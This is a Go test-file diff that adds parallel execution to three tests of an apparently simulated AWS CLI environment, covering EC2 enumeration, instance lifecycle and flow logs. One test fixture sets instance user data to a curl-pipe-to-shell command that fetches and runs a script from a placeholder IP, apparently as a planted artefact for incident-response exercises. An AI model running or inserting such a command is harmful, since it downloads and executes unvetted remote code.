@@ -19,6 +19,7 @@ import (
 // TestCLIEC2Enumeration: what a responder (or an attacker) lists first
 // about the network and launch surface, through the AWS CLI.
 func TestCLIEC2Enumeration(t *testing.T) {
+	t.Parallel()
 	e := newCLIEnv(t)
 
 	vpcs := list(t, e.run("ec2", "describe-vpcs"), "Vpcs")
@@ -83,6 +84,7 @@ func TestCLIEC2Enumeration(t *testing.T) {
 // TestCLIEC2InstanceLifecycle: start a stopped instance (stopped -> pending
 // -> running), read its user data and console output.
 func TestCLIEC2InstanceLifecycle(t *testing.T) {
+	t.Parallel()
 	e := newCLIEnv(t)
 	script := "#!/bin/bash\ncurl -s http://203.0.113.9/x.sh | sh\n"
 	dir := t.TempDir()
@@ -139,6 +141,7 @@ func TestCLIEC2InstanceLifecycle(t *testing.T) {
 // TestCLIFlowLogsDeliveredToS3: the demo VPC's flow log is described, and
 // its records are readable where they are delivered, in the logs bucket.
 func TestCLIFlowLogsDeliveredToS3(t *testing.T) {
+	t.Parallel()
 	e := newCLIEnv(t)
 	fls := list(t, e.run("ec2", "describe-flow-logs"), "FlowLogs")
 	require.Len(t, fls, 1)
